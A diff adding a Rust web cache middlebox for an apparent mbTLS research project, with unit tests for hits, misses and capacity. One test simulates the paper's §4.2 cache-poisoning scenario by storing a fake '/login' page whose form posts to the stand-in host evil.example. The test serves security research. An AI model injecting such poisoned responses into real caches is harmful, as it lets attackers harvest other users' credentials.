@@ -1,0 +1,239 @@
+//! A shared web cache middlebox.
+//!
+//! Observes request/response pairs and stores cacheable responses.
+//! On a hit it annotates the response with `X-Cache: HIT`. This is a
+//! write-through observer cache: it does not short-circuit the origin
+//! (our data plane forwards along the session path), but it maintains
+//! real shared state across sessions — which is exactly the property
+//! the paper's §4.2 "middlebox state poisoning" discussion is about;
+//! the security tests exercise that scenario against this cache.
+
+use std::collections::HashMap;
+
+use mbtls_core::dataplane::FlowDirection;
+use mbtls_core::middlebox::DataProcessor;
+use mbtls_http::message::{
+    looks_like_http_request, looks_like_http_response, RequestParser, Response, ResponseParser,
+};
+
+use crate::sniff::Sniffer;
+
+/// A cached entry.
+#[derive(Debug, Clone)]
+pub struct CacheEntry {
+    /// The stored response.
+    pub response: Response,
+    /// How many times it was served/hit.
+    pub hits: u64,
+}
+
+/// The cache middlebox.
+pub struct WebCache {
+    entries: HashMap<String, CacheEntry>,
+    requests: RequestParser,
+    responses: ResponseParser,
+    c2s_sniff: Sniffer,
+    s2c_sniff: Sniffer,
+    /// Targets awaiting responses, FIFO.
+    outstanding: Vec<String>,
+    /// Total lookups.
+    pub lookups: u64,
+    /// Total hits.
+    pub hits: u64,
+    max_entries: usize,
+}
+
+impl WebCache {
+    /// New cache bounded to `max_entries` objects.
+    pub fn new(max_entries: usize) -> Self {
+        WebCache {
+            entries: HashMap::new(),
+            requests: RequestParser::new(),
+            responses: ResponseParser::new(),
+            c2s_sniff: Sniffer::new(),
+            s2c_sniff: Sniffer::new(),
+            outstanding: Vec::new(),
+            lookups: 0,
+            hits: 0,
+            max_entries,
+        }
+    }
+
+    /// Look up an entry (tests and poisoning scenarios).
+    pub fn entry(&self, target: &str) -> Option<&CacheEntry> {
+        self.entries.get(target)
+    }
+
+    /// Directly store an entry — used by the §4.2 poisoning scenario,
+    /// where a malicious client injects a response on the
+    /// cache↔server hop.
+    pub fn store(&mut self, target: &str, response: Response) {
+        if self.entries.len() >= self.max_entries {
+            // Evict an arbitrary entry (simple bound, not LRU).
+            if let Some(key) = self.entries.keys().next().cloned() {
+                self.entries.remove(&key);
+            }
+        }
+        self.entries.insert(
+            target.to_string(),
+            CacheEntry {
+                response,
+                hits: 0,
+            },
+        );
+    }
+
+    /// Number of cached objects.
+    pub fn len(&self) -> usize {
+        self.entries.len()
+    }
+
+    /// True if empty.
+    pub fn is_empty(&self) -> bool {
+        self.entries.is_empty()
+    }
+}
+
+impl DataProcessor for WebCache {
+    fn process(&mut self, dir: FlowDirection, data: Vec<u8>) -> Vec<u8> {
+        match dir {
+            FlowDirection::ClientToServer => {
+                if !self.c2s_sniff.is_http(&data, looks_like_http_request) {
+                    return data;
+                }
+                self.requests.feed(&data);
+                let mut out = Vec::new();
+                loop {
+                    match self.requests.next_request() {
+                        Ok(Some(req)) => {
+                            if req.method == "GET" {
+                                self.lookups += 1;
+                                if let Some(entry) = self.entries.get_mut(&req.target) {
+                                    entry.hits += 1;
+                                    self.hits += 1;
+                                }
+                                self.outstanding.push(req.target.clone());
+                            }
+                            out.extend(req.encode());
+                        }
+                        Ok(None) => break,
+                        Err(_) => {
+                            out.extend(data.clone());
+                            return out;
+                        }
+                    }
+                }
+                out
+            }
+            FlowDirection::ServerToClient => {
+                if !self.s2c_sniff.is_http(&data, looks_like_http_response) {
+                    return data;
+                }
+                self.responses.feed(&data);
+                let mut out = Vec::new();
+                loop {
+                    match self.responses.next_response() {
+                        Ok(Some(mut resp)) => {
+                            let target = if self.outstanding.is_empty() {
+                                None
+                            } else {
+                                Some(self.outstanding.remove(0))
+                            };
+                            if let Some(target) = target {
+                                let was_cached = self.entries.contains_key(&target);
+                                if resp.status == 200 {
+                                    if was_cached {
+                                        resp.set_header("X-Cache", "HIT");
+                                    } else {
+                                        resp.set_header("X-Cache", "MISS");
+                                        self.store(&target, resp.clone());
+                                    }
+                                }
+                            }
+                            out.extend(resp.encode());
+                        }
+                        Ok(None) => break,
+                        Err(_) => {
+                            out.extend(data.clone());
+                            return out;
+                        }
+                    }
+                }
+                out
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use mbtls_http::message::Request;
+
+    fn roundtrip(cache: &mut WebCache, target: &str) -> Response {
+        let req = Request::get(target, "h").encode();
+        cache.process(FlowDirection::ClientToServer, req);
+        let resp = Response::ok(format!("content of {target}").as_bytes()).encode();
+        let out = cache.process(FlowDirection::ServerToClient, resp);
+        let mut parser = ResponseParser::new();
+        parser.feed(&out);
+        parser.next_response().unwrap().unwrap()
+    }
+
+    #[test]
+    fn miss_then_hit() {
+        let mut cache = WebCache::new(16);
+        let first = roundtrip(&mut cache, "/page");
+        assert_eq!(first.header("X-Cache"), Some("MISS"));
+        assert_eq!(cache.len(), 1);
+        let second = roundtrip(&mut cache, "/page");
+        assert_eq!(second.header("X-Cache"), Some("HIT"));
+        assert_eq!(cache.hits, 1);
+        assert_eq!(cache.lookups, 2);
+    }
+
+    #[test]
+    fn distinct_targets_distinct_entries() {
+        let mut cache = WebCache::new(16);
+        roundtrip(&mut cache, "/a");
+        roundtrip(&mut cache, "/b");
+        assert_eq!(cache.len(), 2);
+        assert!(cache.entry("/a").is_some());
+        assert!(cache.entry("/b").is_some());
+        assert!(cache.entry("/c").is_none());
+    }
+
+    #[test]
+    fn non_200_not_cached() {
+        let mut cache = WebCache::new(16);
+        let req = Request::get("/missing", "h").encode();
+        cache.process(FlowDirection::ClientToServer, req);
+        let resp = Response::status(404, "Not Found").encode();
+        cache.process(FlowDirection::ServerToClient, resp);
+        assert!(cache.entry("/missing").is_none());
+    }
+
+    #[test]
+    fn capacity_bounded() {
+        let mut cache = WebCache::new(2);
+        roundtrip(&mut cache, "/1");
+        roundtrip(&mut cache, "/2");
+        roundtrip(&mut cache, "/3");
+        assert!(cache.len() <= 2);
+    }
+
+    #[test]
+    fn poisoning_scenario_shared_state() {
+        // §4.2: a malicious client with access to the cache↔server hop
+        // injects its own response, poisoning the cache for others.
+        let mut cache = WebCache::new(16);
+        cache.store("/login", Response::ok(b"<form action=evil.example>"));
+        // A later, honest client hits the poisoned entry.
+        let resp = roundtrip(&mut cache, "/login");
+        assert_eq!(resp.header("X-Cache"), Some("HIT"));
+        assert_eq!(
+            cache.entry("/login").unwrap().response.body,
+            b"<form action=evil.example>"
+        );
+    }
+}
